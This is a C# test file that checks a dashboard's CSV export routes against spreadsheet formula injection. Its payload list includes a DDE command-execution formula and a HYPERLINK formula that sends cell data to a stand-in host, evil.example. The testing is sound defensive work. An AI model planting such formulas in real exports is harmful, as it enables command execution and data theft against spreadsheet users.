using System.Globalization;
using System.Net;
using CsvHelper;
using CsvHelper.Configuration;
using Dashboard.Core.Runs;
using Dashboard.Core.Verdicts;
using Dashboard.Kit;
using Dashboard.Web.Tests.Security;

namespace Dashboard.Web.Tests.Api;

/// <summary>Every export of the route table, of jobs whose every text is a formula: no cell is one for a spreadsheet, and each says what it was.</summary>
public sealed class HostileExportTests
{
    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", "=\"a\"\",\"\"b\"", "=1\r\n=2", "a;=1+1", "a,=1+1",
    ];

    private static readonly char[] Triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task No_cell_of_any_export_is_a_formula()
    {
        await using var dashboard = await RunningDashboard.StartAsync("crontabber-healthy", "poll");
        foreach (var formula in Formulas)
        {
            var text = $"'{formula.Replace("'", "''", StringComparison.Ordinal)}'";
            await dashboard.ExecuteAsync(
                $$"""
                insert into crontabber (app_name, next_run, first_run, last_run, error_count, depends_on, last_error)
                values ({{text}}, now(), now() - interval '9 days', now(), 1, array[{{text}}], json_build_object('type', {{text}}::text, 'value', {{text}}::text, 'traceback', {{text}}::text));
                insert into crontabber_log (app_name, duration, exc_type, exc_value, exc_traceback) values ({{text}}, interval '1 second', {{text}}, {{text}}, {{text}})
                """);
        }

        await dashboard.UntilAsync<StandingsSnapshot>("demo", standings => Formulas.All(formula => standings.Find(formula) is not null));
        await dashboard.UntilAsync<RunsSnapshot>("demo", runs => Formulas.All(formula => runs.Of(formula).Runs.Count > 0));
        using var browser = await dashboard.LoggedInAsync();
        var (asked, said) = (new HashSet<string>(StringComparer.Ordinal), new HashSet<string>(StringComparer.Ordinal));
        foreach (var line in RouteLine.Of(dashboard).Where(line => line.Pattern.EndsWith(".csv", StringComparison.Ordinal) && line.Methods.Contains("GET")).DistinctBy(line => line.Pattern))
        {
            foreach (var formula in line.Pattern.Contains("{app_name}", StringComparison.Ordinal) ? Formulas : [""])
            {
                using var answer = await browser.GetAsync(new Uri(line.Address(Guid.Empty, Uri.EscapeDataString(formula)), UriKind.Relative), Stop);
                if (answer.StatusCode == HttpStatusCode.NotFound)
                {
                    // A job without slots has no export of them.
                    continue;
                }

                Assert.True(answer.StatusCode == HttpStatusCode.OK, $"{line.Pattern} of {formula}: {answer.StatusCode}");
                Assert.Equal(("attachment", "text/csv"), (answer.Content.Headers.ContentDisposition?.DispositionType, answer.Content.Headers.ContentType?.MediaType));
                Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
                asked.Add(line.Pattern);
                using var csv = new CsvParser(new StreamReader(await answer.Content.ReadAsStreamAsync(Stop)), new CsvConfiguration(CultureInfo.InvariantCulture));
                while (await csv.ReadAsync())
                {
                    foreach (var cell in csv.Record!)
                    {
                        Assert.False(cell.Length > 0 && Triggers.Contains(cell[0]) && !double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{line.Pattern}: {cell}");
                        said.Add(cell);
                    }
                }
            }
        }

        Assert.InRange(asked.Count, 4, int.MaxValue);
        Assert.All(Formulas, formula => Assert.Contains(Triggers.Contains(formula[0]) ? $"'{formula}" : formula, said));
    }
}
